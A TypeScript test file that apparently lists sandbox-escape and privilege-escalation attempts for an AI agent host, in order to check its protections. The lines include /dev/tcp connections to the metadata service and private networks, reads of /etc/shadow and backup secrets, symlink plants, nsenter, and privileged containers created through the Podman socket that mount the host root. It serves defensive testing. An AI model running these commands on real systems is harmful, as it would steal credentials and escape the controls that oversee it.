// What an agent that is taken over tries. Each script prints "won" where it succeeds, and only there.
import type { From } from "./attackHost.ts";
import { policyAttempts } from "./policyAttempts.ts";

/** One attack. */
export interface Attempt {
	readonly name: string;
	readonly from: From;
	readonly script: string;
	/** What the attacker sees instead. */
	readonly refusal: RegExp;
	readonly control: Control;
	/** For traffic: what a listener would have seen. */
	readonly word?: string;
}

/** Root's script that takes a protection away, and the one that gives it back. */
interface Switch {
	readonly off: string;
	readonly on: string;
}

/** The same attack with exactly that protection switched off, in which it succeeds; or why there can be none. */
export type Control =
	| Switch
	/** Root of the host does the same: the uid is the protection. */
	| { readonly asRoot: true }
	/** A container without that one argument, or with one more; where there is a switch, with that thrown too. */
	| {
			readonly switch?: Switch;
			readonly container: readonly string[];
			readonly without?: readonly string[];
	  }
	| { readonly none: string };

/** The switch of a control, where it has one. */
export const switchOf = (control: Control): Switch | undefined =>
	"off" in control
		? control
		: "container" in control
			? control.switch
			: undefined;

const denied = /Permission denied|Operation not permitted/;
const asRoot = { asRoot: true } as const;
const chmod = (grant: string, path: string): Control => ({
	off: `stat -c '%a' ${path} >/run/was; chmod ${grant} ${path}`,
	on: `chmod "$(cat /run/was)" ${path}`,
});

/** Where somebody listens, outside and on the host itself. */
export interface Target {
	readonly name: string;
	readonly protocol: "tcp" | "udp";
	readonly address: string;
	readonly port: number;
	readonly from: readonly From[];
}

const everywhere = ["uid", "owner", "gateway", "sandbox"] as const;
/** A sandbox has a bridge of its own, which knows IPv4 only. */
const withIPv6 = ["uid", "owner", "gateway"] as const;
const target = (
	name: string,
	protocol: "tcp" | "udp",
	address: string,
	port: number,
	from: readonly From[] = address.includes(":") ? withIPv6 : everywhere,
): Target => ({ name, protocol, address, port, from });

export const targets: readonly Target[] = [
	target("metadata: user-data", "tcp", "169.254.169.254", 80),
	target("tailnet peer, SSH", "tcp", "100.64.0.5", 22),
	target("tailnet peer over IPv6", "tcp", "fd7a:115c:a1e0::5", 22),
	target("private network 10/8", "tcp", "10.1.2.3", 443),
	target("private network 172.16/12", "tcp", "172.20.0.9", 443),
	target("private network 192.168/16", "tcp", "192.168.7.7", 80),
	target("private network fc00::/7", "tcp", "fd12:3456::1", 80),
	target("DNS to a foreign resolver", "udp", "198.51.100.253", 53),
	target("DNS over TCP to a foreign resolver", "tcp", "198.51.100.253", 53),
	target("DNS over TLS", "tcp", "198.51.100.253", 853),
	target("DNS to a foreign resolver over IPv6", "udp", "2001:db8:bad::53", 53),
];

const networkAttempts = targets.flatMap(
	({ name, protocol, address, port, from }) =>
		from.map((where): Attempt => {
			const word = `${where} ${protocol} ${address} ${port}`;
			return {
				name,
				from: where,
				// The far end answers "reached"; a refusal of a datagram comes with the second one.
				script: `timeout 4 bash -c 'exec 3<>/dev/${protocol}/${address}/${port} || exit; for i in 1 2; do echo -n "${word}" >&3 || exit; a=$(timeout 1 dd bs=64 count=1 <&3 2>/dev/null); [ "$a" = reached ] && echo won && exit; done; echo unanswered'`,
				refusal:
					/refused|unreachable|No route|not permitted|Permission denied|unanswered|reset/i,
				control: {
					off: "nft delete table inet moltbot_guard",
					// Not by its unit: the agent's service manager requires that, and would be restarted too.
					on: "set -a; . /etc/moltbot/host.env; /usr/local/libexec/moltbot/guard",
				},
				word,
			};
		}),
);

const secretFiles = [
	"/etc/moltbot/host-secrets/backup-password",
	"/etc/moltbot/host-secrets/backup-key",
	"/etc/moltbot/join-key",
	"/etc/moltbot/beacon-url",
];
const readAttempts: Attempt[] = [
	...secretFiles.flatMap((path) =>
		(["uid", "gateway"] as const).map((from) => ({
			name: `read ${path}`,
			from,
			script: `cat ${path} >/dev/null && echo won`,
			refusal: denied,
			control: {
				off: `chmod a+rx /etc/moltbot/host-secrets; chmod a+r ${path}`,
				on: `chmod 0700 /etc/moltbot/host-secrets; chmod 0400 ${path}`,
			},
		})),
	),
	...[
		"/etc/shadow",
		"/var/lib/tailscale/tailscaled.state",
		"/var/home/core/notes",
		"/var/lib/moltbot/backup/last.json",
	].map(
		(path): Attempt => ({
			name: `read ${path}`,
			from: "uid",
			script: `cat ${path} >/dev/null && echo won`,
			refusal: denied,
			control: asRoot,
		}),
	),
	{
		name: "read root's journal",
		from: "uid",
		script:
			"journalctl --no-pager -n 1 _UID=0 -o cat | grep -q . && echo won; true",
		refusal: /insufficient permissions|No journal files|^$|Hint/,
		control: asRoot,
	},
	{
		name: "read the environment of PID 1",
		from: "uid",
		script: "cat /proc/1/environ >/dev/null && echo won",
		refusal: denied,
		control: asRoot,
	},
	{
		name: "follow a mount of PID 1 out of the container",
		from: "gateway",
		script: "nsenter --target 1 --mount cat /etc/shadow && echo won",
		refusal: /not permitted|denied|No such file|Invalid argument/,
		control: {
			none: "PID 1 of the container is the attacker's own; what leads to the host's is the PID namespace, which root alone could share",
		},
	},
];

const writeAttempts: Attempt[] = [
	...[
		"/etc/containers/policy.json",
		"/etc/containers/systemd/users/2001/moltbot-gateway.container",
		"/etc/moltbot/guard.nft",
		"/etc/moltbot/host.env",
		"/etc/moltbot/openclaw.json",
		"/etc/moltbot/engine-policy.ts",
		"/etc/passwd",
		"/etc/subuid",
		"/usr/local/bin/moltbot",
		"/usr/local/libexec/moltbot/backup",
		"/etc/systemd/system/guard.service",
	].map(
		(path): Attempt => ({
			name: `change ${path}`,
			from: "uid",
			script: `: >>${path} && echo won`,
			refusal: denied,
			control: chmod("o+w", path),
		}),
	),
	{
		name: "change its own configuration",
		from: "owner",
		script: ": >>/etc/moltbot/openclaw.json && echo won",
		refusal: denied,
		control: chmod("g+w", "/etc/moltbot/openclaw.json"),
	},
	{
		name: "change its own configuration",
		from: "gateway",
		script: ": >>/etc/moltbot/openclaw.json && echo won",
		refusal: /Permission denied|Read-only/,
		control: {
			none: "two protections lie over each other, the file's mode and the read-only mount; the first has its control above",
		},
	},
	{
		name: "put another configuration in its place",
		from: "uid",
		script:
			"cd /etc/moltbot; touch .x && mv .x openclaw.json.bad && echo won; true",
		refusal: denied,
		control: {
			off: "chmod o+w /etc/moltbot",
			on: "chmod o-w /etc/moltbot; rm -f /etc/moltbot/openclaw.json.bad",
		},
	},
	{
		name: "plant a link where root writes secrets",
		from: "owner",
		script:
			"ln -s /etc/shadow /var/lib/moltbot/secrets/discord-bot-token && echo won",
		refusal: denied,
		control: {
			off: "chmod g+w /var/lib/moltbot/secrets",
			on: "chmod g-w /var/lib/moltbot/secrets; rm -f /var/lib/moltbot/secrets/discord-bot-token",
		},
	},
	{
		name: "plant a link where root writes the restore marker",
		from: "uid",
		script: "ln -s /etc/shadow /var/lib/moltbot/.planted && echo won",
		refusal: denied,
		control: {
			off: "chmod o+w /var/lib/moltbot",
			on: "chmod o-w /var/lib/moltbot; rm -f /var/lib/moltbot/.planted",
		},
	},
];

/** Gives the agent its folder of settings. */
export const mutable =
	"echo 'h /var/home/moltbot/.config - - - - -i' | systemd-tmpfiles --create -";
const immutable = "systemd-tmpfiles --create /etc/tmpfiles.d/moltbot.conf";
const plantings: Attempt[] = [
	...[
		["a unit of its service manager", ".config/systemd/user/x.service"],
		["a Quadlet", ".config/containers/systemd/x.container"],
		["settings of its engine", ".config/containers/containers.conf"],
		["environment of its service manager", ".config/environment.d/x.conf"],
	].map(
		([what, path]): Attempt => ({
			name: `plant ${what}`,
			from: "uid",
			script: `cd /var/home/moltbot; f=${path}; mkdir -p "\${f%/*}" && : >"$f" && echo won`,
			refusal: denied,
			control: {
				off: `${mutable}`,
				on: `rm -rf /var/home/moltbot/.config/*; ${immutable}`,
			},
		}),
	),
	{
		name: "plant a unit where data is",
		from: "uid",
		script: "mkdir -p /var/home/moltbot/.local/share/systemd/user && echo won",
		refusal: denied,
		control: {
			off: "chown 2001 /var/home/moltbot/.local/share",
			on: "chown 0 /var/home/moltbot/.local/share; rm -rf /var/home/moltbot/.local/share/systemd",
		},
	},
	{
		name: "put a folder of settings in place of the immutable one",
		from: "uid",
		script: "mv /var/home/moltbot/.config /var/home/moltbot/.old && echo won",
		refusal: denied,
		control: {
			off: `${mutable}; chown 2001 /var/home/moltbot`,
			on: `chown 0 /var/home/moltbot; mv /var/home/moltbot/.old /var/home/moltbot/.config; ${immutable}`,
		},
	},
];

const engineRuns = "/run/user/2001";
const powers: Attempt[] = [
	{
		name: "reach the engine from beside a container",
		from: "owner",
		script: `curl -sS --unix-socket ${engineRuns}/podman/podman.sock http://d/_ping | grep -q OK && echo won`,
		refusal: /Could ?n.t connect|Failed to connect|denied/i,
		control: {
			off: `chmod 0711 ${engineRuns} ${engineRuns}/podman; chmod 0666 ${engineRuns}/podman/podman.sock`,
			on: `chmod 0600 ${engineRuns}/podman/podman.sock; chmod 0700 ${engineRuns} ${engineRuns}/podman`,
		},
	},
	{
		name: "look into the images as they are stored",
		from: "owner",
		script: "ls /var/home/moltbot/.local/share/containers/storage && echo won",
		refusal: denied,
		control: {
			off: "cd /var/home/moltbot/.local/share; chmod 0755 containers containers/storage",
			on: "cd /var/home/moltbot/.local/share; chmod 0700 containers containers/storage",
		},
	},
	{
		name: "switch the packet filter off",
		from: "uid",
		script: "nft list table inet moltbot_guard >/dev/null && echo won",
		refusal: denied,
		control: asRoot,
	},
	{
		name: "restart a service of the host",
		from: "uid",
		script: "systemctl restart room.service && echo won",
		refusal: /Access denied|authentication|not permitted/i,
		control: asRoot,
	},
	{
		name: "become root by sudo",
		from: "uid",
		script: "sudo -n true && echo won",
		refusal: /password is required|not allowed|may not/,
		control: {
			off: "echo 'moltbot ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/99-control; chmod 0440 /etc/sudoers.d/99-control",
			on: "rm /etc/sudoers.d/99-control",
		},
	},
	{
		name: "signal PID 1",
		from: "uid",
		script: "kill -0 1 && echo won",
		refusal: denied,
		control: asRoot,
	},
	{
		name: "enter the namespaces of PID 1",
		from: "uid",
		script: "nsenter --target 1 --mount true && echo won",
		refusal: denied,
		control: asRoot,
	},
	...[
		["root", 0],
		["core", 1000],
	].map(
		([who, id]): Attempt => ({
			name: `map a user namespace onto ${who}`,
			from: "uid",
			script: `unshare --user --map-users=0:${id}:1 --map-groups=0:${id}:1 true && echo won`,
			refusal: /not allowed|not permitted|denied|failed/,
			control: asRoot,
		}),
	),
	{
		name: "reach the engine of root",
		from: "uid",
		script:
			"curl -sS --unix-socket /run/podman/podman.sock http://d/_ping | grep -q OK && echo won",
		refusal: /Could ?n.t connect|Failed to connect|denied/i,
		control: {
			off: "systemctl start podman.socket; chmod a+rx /run/podman; chmod a+rw /run/podman/podman.sock",
			on: "chmod 0660 /run/podman/podman.sock; chmod 0700 /run/podman",
		},
	},
	{
		name: "bring in an image that no delivery named",
		from: "uid",
		script:
			"podman import /var/tmp/attacker.tar localhost/other >/dev/null && echo won",
		refusal: /rejected by policy/,
		control: {
			off: "cp -p /etc/containers/policy.json /run/policy.json; cp /var/tmp/policy.json /etc/containers/policy.json",
			on: "cp -p /run/policy.json /etc/containers/policy.json",
		},
	},
	...(["gateway", "sandbox"] as const).flatMap((from): Attempt[] => [
		{
			name: "become root by a setuid program",
			from,
			script: '[ "$(setuid-id -u)" = 0 ] && echo won || echo still nobody',
			refusal: /still nobody/,
			control: {
				container: [],
				without: ["--security-opt=no-new-privileges"],
			},
		},
		{
			name: "write to the root of the container",
			from,
			script: ": >/bin/planted && echo won",
			refusal: /Read-only file system|Permission denied/,
			control: {
				container: ["--user=0:0"],
				without: ["--read-only", "--user=2001:2001"],
			},
		},
		{
			name: "mount a file system",
			from,
			script: "mount -t tmpfs none /tmp && echo won",
			refusal: /denied|not permitted|must be superuser/,
			control: {
				container: ["--cap-add=SYS_ADMIN", "--user=0:0"],
				without: ["--cap-drop=all", "--cap-drop=ALL", "--user=2001:2001"],
			},
		},
		{
			name: "make a device",
			from,
			script: "mknod /tmp/disk b 7 0 && echo won",
			refusal: /not permitted|denied|Read-only/,
			control: {
				none: "the kernel lets nobody make devices in a user namespace; without one the container would be root's",
			},
		},
		{
			name: "change a setting of the kernel",
			from,
			script: "echo 10 >/proc/sys/kernel/panic && echo won",
			refusal: /Read-only|denied/,
			control: {
				none: "the kernel is shared with the machine that runs the tests",
			},
		},
		{
			name: "look into memory",
			from,
			script: "head -c 1 /dev/mem /dev/kmem /proc/kcore && echo won",
			refusal: /No such file|denied|not permitted/,
			control: {
				none: "the kernel is shared with the machine that runs the tests",
			},
		},
	]),
	...[
		[
			"the engine's socket",
			"/run/podman/podman.sock",
			"/run/user/2001/moltbot-engine:/run/podman:ro",
		],
		[
			"the gateway's secrets",
			"/var/lib/moltbot/secrets",
			"/var/lib/moltbot/secrets:/var/lib/moltbot/secrets:ro",
		],
		[
			"the agent's state",
			"/var/lib/moltbot/state",
			"/var/lib/moltbot/state:/var/lib/moltbot/state",
		],
		["its configuration", "/etc/moltbot", "/etc/moltbot:/etc/moltbot:ro"],
	].map(
		([what, path, volume]): Attempt => ({
			name: `see ${what}`,
			from: "sandbox",
			script: `stat ${path} >/dev/null && echo won`,
			refusal: /No such file/,
			control: { container: [`--volume=${volume}`] },
		}),
	),
];

/** A container that the attacker makes by the engine itself, with the agent's uid on the host; `create` is its request. */
const byEngine = (create: object) =>
	[
		`api() { curl -sS --unix-socket /run/user/2001/podman/podman.sock -H 'Content-Type: application/json' "$@"; }`,
		`u=http://d/v5.0.0/libpod/containers`,
		`id=$(api -d '${JSON.stringify({ image: "localhost/attacker", ...create })}' $u/create | sed -n 's/.*"Id":"\\([0-9a-f]*\\)".*/\\1/p')`,
		`[ "$id" ] || { echo not created; exit 1; }`,
		`api -X POST $u/$id/start; api -X POST "$u/$id/wait" >/dev/null; api "$u/$id/logs?stdout=true&stderr=true" | tr -d '\\000-\\010'; api -X DELETE "$u/$id?force=true" >/dev/null`,
	].join("\n");
const shell = (script: string) => ({
	command: ["bash", "-c", `echo inside; exec 2>&1; ${script}`],
});
const hostRoot = {
	mounts: [
		{ type: "bind", source: "/", destination: "/host", options: ["rbind"] },
	],
};
/** All that `--privileged` gives but the host's /sys, which the fast lab host cannot mount. */
const privileged = {
	cap_add: ["ALL"],
	seccomp_profile_path: "unconfined",
	user: "0:0",
};
const engineReason = {
	none: "what refuses is that the engine runs with the agent's uid; with root's engine, which no unit starts, there is nothing left to refuse (measured by the attempt on root's socket)",
};

const throughEngine: Attempt[] = [
	[
		"a privileged container that reads root's files",
		{
			...privileged,
			...hostRoot,
			...shell("cat /host/etc/shadow && echo won"),
		},
	],
	[
		"a privileged container that reads the backup password",
		{
			...privileged,
			...hostRoot,
			...shell(
				"cat /host/etc/moltbot/host-secrets/backup-password && echo won",
			),
		},
	],
	[
		"a privileged container that writes a unit of the host",
		{
			...privileged,
			...hostRoot,
			...shell(": >/host/etc/systemd/system/x.service && echo won"),
		},
	],
	[
		"a container that plants a unit in the agent's home",
		{
			...privileged,
			...hostRoot,
			...shell(
				"mkdir -p /host/var/home/moltbot/.config/systemd/user && echo won",
			),
		},
	],
	[
		"a container in the host's PID namespace that looks into PID 1",
		{
			...privileged,
			pidns: { nsmode: "host" },
			...shell("cat /proc/1/environ && echo won"),
		},
	],
	[
		"a container in the host's network that asks for metadata",
		{
			...privileged,
			netns: { nsmode: "host" },
			...shell(
				"exec 3<>/dev/tcp/169.254.169.254/80 && echo -n engine >&3 && echo won",
			),
		},
	],
	[
		"a container in the host's network that changes the filter's interface",
		{
			...privileged,
			netns: { nsmode: "host" },
			...shell("ip link set lo down && echo won"),
		},
	],
].map(
	([name, create]): Attempt => ({
		name: String(name),
		from: "uid",
		script: byEngine(create as object),
		// It must have run: an engine that refuses the request would prove nothing.
		refusal: /inside[\s\S]*(denied|not permitted|refused|Read-only)/i,
		control: engineReason,
	}),
);

export const attempts: readonly Attempt[] = [
	...networkAttempts,
	...readAttempts,
	...writeAttempts,
	...plantings,
	...powers,
	...throughEngine,
	...policyAttempts,
];
